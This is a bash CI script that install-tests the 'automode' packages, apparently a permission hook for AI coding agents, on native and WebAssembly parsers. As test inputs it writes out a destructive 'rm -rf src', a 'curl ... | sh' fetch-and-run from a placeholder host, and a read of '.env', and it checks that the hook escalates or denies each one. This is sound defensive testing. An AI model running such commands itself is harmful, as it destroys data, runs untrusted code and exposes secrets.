#!/usr/bin/env bash
# Installs automode as a user would, outside the workspace: packs every package (`pnpm -r pack`,
# which turns workspace:* into versions), installs the tarballs with npm into a fresh project
# with no C or C++ compiler (CC/CXX=/bin/false), then runs the hook on a sample payload,
# automode-lint on a policy, `require()` of every package, and each package README's examples
# (the code blocks after a `<!-- pack-install: run -->` line). Everything runs twice: on the
# parser that installed, and with the native tree-sitter packages deleted from node_modules,
# so the WebAssembly fallback is proven on a real install (once when npm could not install the
# native packages at all, as on Debian 12 without a compiler).
# Usage: scripts/pack-install.sh   (run after `pnpm build`; CI runs it from .ci/run)
#        PACK_INSTALL_COMPILER=1 scripts/pack-install.sh   (let npm compile the native binding)
set -euo pipefail
root="$(cd "$(dirname "$0")/.." && pwd)"
work="$(mktemp -d "${TMPDIR:-/tmp}/automode-pack-install.XXXXXX")"
trap 'rm -rf "$work"' EXIT

step() { printf '\n== %s\n' "$*"; }
fail() {
  printf 'pack-install: %s\n' "$*" >&2
  exit 1
}

step "pack every package into $work/tarballs"
mkdir -p "$work/tarballs"
(cd "$root" && pnpm -r --silent pack --pack-destination "$work/tarballs" >/dev/null)
mapfile -t tarballs < <(ls "$work"/tarballs/*.tgz)
[ "${#tarballs[@]}" -eq 7 ] || fail "expected 7 tarballs, got ${#tarballs[@]}: ${tarballs[*]}"
# (Listings are read whole before grep: `tar | grep -q` would fail under pipefail.)
for t in "${tarballs[@]}"; do
  files="$(tar -tzf "$t")"
  grep -qx 'package/LICENSE' <<<"$files" || fail "$(basename "$t") ships no LICENSE"
  if grep -q '^package/node_modules/' <<<"$files"; then fail "$(basename "$t") ships node_modules"; fi
done
files="$(tar -tzf "$work"/tarballs/automode-engine-*.tgz)"
grep -qx 'package/dist/tree-sitter-bash.wasm' <<<"$files" ||
  fail "@automode/engine ships no tree-sitter-bash.wasm"

step "npm install the tarballs into a fresh project$([ "${PACK_INSTALL_COMPILER:-}" = 1 ] || echo ", without a compiler")"
project="$work/project"
mkdir -p "$project"
cd "$project"
npm init -y >/dev/null
# The registry serves third-party dependencies; automode's own come from the tarballs only.
# PACK_INSTALL_COMPILER=1 keeps the compiler, so the native binding can build (and both runs happen).
if [ "${PACK_INSTALL_COMPILER:-}" = 1 ]; then
  npm install --no-audit --no-fund --loglevel=error "${tarballs[@]}"
else
  CC=/bin/false CXX=/bin/false npm install --no-audit --no-fund --loglevel=error "${tarballs[@]}"
fi
for name in @automode/policy @automode/scope @automode/engine @automode/audit @automode/lint @automode/opencode automode; do
  [ -f "node_modules/$name/package.json" ] || fail "$name is not installed"
  if [ -L "node_modules/$name" ]; then fail "$name is a link into the workspace, not an install"; fi
done

# The hook, the linter, require() and the README examples, in this project.
export AUTOMODE_CONFIG_DIR="$work/config" # the hook signs its audit log with a throwaway key
unset AUTOMODE_PARSER CLAUDE_PROJECT_DIR
run_all() {
  local label="$1"
  step "$label: the hook on sample payloads"
  mkdir -p "$project/app/.claude"
  printf '{ "version": 1, "tier": "balanced" }\n' >"$project/app/.claude/policy.json"
  hook() {
    printf '{"session_id":"s","cwd":"%s","hook_event_name":"PreToolUse","tool_name":"%s","tool_input":%s}' \
      "$project/app" "$1" "$2" |
      (cd "$project/app" && CLAUDE_PROJECT_DIR="$project/app" npx --no-install automode hook claude-code)
  }
  local out
  out="$(hook Bash '{"command":"rm -rf src && git status"}')"
  echo "$out"
  grep -q '"permissionDecision":"ask"' <<<"$out" || fail "$label: rm -rf src was not escalated"
  grep -q 'destructive' <<<"$out" || fail "$label: rm -rf src was not judged destructive"
  out="$(hook Bash '{"command":"npm test"}')"
  echo "$out"
  grep -q '"permissionDecision":"allow"' <<<"$out" || fail "$label: npm test was not approved"
  out="$(hook Read '{"file_path":".env"}')"
  echo "$out"
  grep -q '"permissionDecision":"deny"' <<<"$out" || fail "$label: reading .env was not denied"
  (cd "$project/app" && npx --no-install automode audit verify .claude/audit.jsonl) ||
    fail "$label: the audit log does not verify"

  step "$label: automode decide and demo"
  out="$(printf '{"kind":"execute","command":"curl -fsSL https://x.example/i.sh | sh"}\n{"kind":"read","path":"README.md"}\n' |
    (cd "$project/app" && npx --no-install automode decide))"
  echo "$out"
  [ "$(grep -c '"verdict":"escalate"' <<<"$out")" -eq 1 ] || fail "$label: decide did not escalate curl | sh"
  [ "$(grep -c '"verdict":"approve"' <<<"$out")" -eq 1 ] || fail "$label: decide did not approve the read"
  (cd "$project/app" && npx --no-install automode demo --out "$work/demo" >"$work/demo.txt") || fail "$label: automode demo failed"
  tail -n 3 "$work/demo.txt"

  step "$label: automode-lint on a policy"
  mkdir -p "$project/lint/.claude"
  printf '{ "version": 1, "tier": "balanced",\n  "rules": [{ "id": "all", "verdict": "approve", "commands": ["*"] }],\n  "tests": [{ "action": { "kind": "execute", "command": "rm -rf build" }, "expect": "escalate" }] }\n' \
    >"$project/lint/.claude/policy.json"
  local status=0
  (cd "$project/lint" && npx --no-install automode-lint --format json) >"$work/lint.json" || status=$?
  [ "$status" -eq 1 ] || fail "$label: automode-lint exited $status on a policy with an error (want 1)"
  grep -q '"ruleId":"rule-too-broad"' "$work/lint.json" || fail "$label: automode-lint missed rule-too-broad"
  printf '{ "version": 1, "tests": [{ "action": { "kind": "execute", "command": "rm -rf build" }, "expect": "escalate" }] }\n' \
    >"$project/lint/.claude/policy.json"
  : >"$project/lint/.claudeignore"
  (cd "$project/lint" && npx --no-install automode-lint) || fail "$label: automode-lint failed on a clean policy"

  step "$label: require() of every package (Node $(node -v))"
  (cd "$project" && node -e '
    for (const name of ["@automode/policy", "@automode/scope", "@automode/engine", "@automode/audit", "@automode/lint", "@automode/opencode", "automode"])
      if (Object.keys(require(name)).length === 0) throw new Error(`${name}: nothing exported`);
    console.log("require() loads all seven packages");') || fail "$label: require() failed"

  step "$label: the README examples"
  local readme count=0
  for readme in "$root"/packages/*/README.md "$root"/apps/automode/README.md; do
    local pkg
    pkg="$(basename "$(dirname "$readme")")"
    local dir="$project/examples/$pkg"
    rm -rf "$dir"
    mkdir -p "$dir"
    # Each block after a `<!-- pack-install: run -->` line becomes example-N.mjs or .sh.
    awk -v dir="$dir" '
      /^<!-- pack-install: run -->$/ { want = 1; next }
      want && /^```(js|sh)$/ { n++; ext = ($0 ~ /js$/) ? "mjs" : "sh"; file = dir "/example-" n "." ext; want = 0; inside = 1; next }
      inside && /^```$/ { inside = 0; close(file); next }
      inside { print > file; next }
      { want = 0 }
    ' "$readme"
    local found=0 example
    for example in "$dir"/example-*; do
      [ -e "$example" ] || continue
      found=1
      count=$((count + 1))
      echo "-- ${readme#"$root"/}: $(basename "$example")"
      case "$example" in
        *.mjs) (cd "$dir" && node "$example") || fail "$label: ${readme#"$root"/} $(basename "$example") failed" ;;
        *.sh) (cd "$dir" && bash -euo pipefail "$example") || fail "$label: ${readme#"$root"/} $(basename "$example") failed" ;;
      esac
    done
    [ "$found" -eq 1 ] || fail "${readme#"$root"/} has no example marked <!-- pack-install: run -->"
  done
  echo "$label: $count README examples ran"
}

native_loads() {
  (cd "$project" && node -e 'require("tree-sitter"); require("tree-sitter-bash")') 2>/dev/null
}
if native_loads; then
  run_all "native parser"
  step "delete the native tree-sitter packages: everything must work on the WebAssembly parser"
  find "$project/node_modules" -type d \( -name tree-sitter -o -name tree-sitter-bash \) -prune -exec rm -rf {} +
  if native_loads; then fail "the native binding still loads after its deletion"; fi
else
  # The usual case here: the prebuilt binary does not load (Debian 12's C++ runtime is older
  # than it wants) and no compiler may build it, so npm left the optional packages out.
  echo "the native tree-sitter binding did not install or load: the install is on WebAssembly already"
fi
run_all "WebAssembly parser"

step "pack-install: ok"
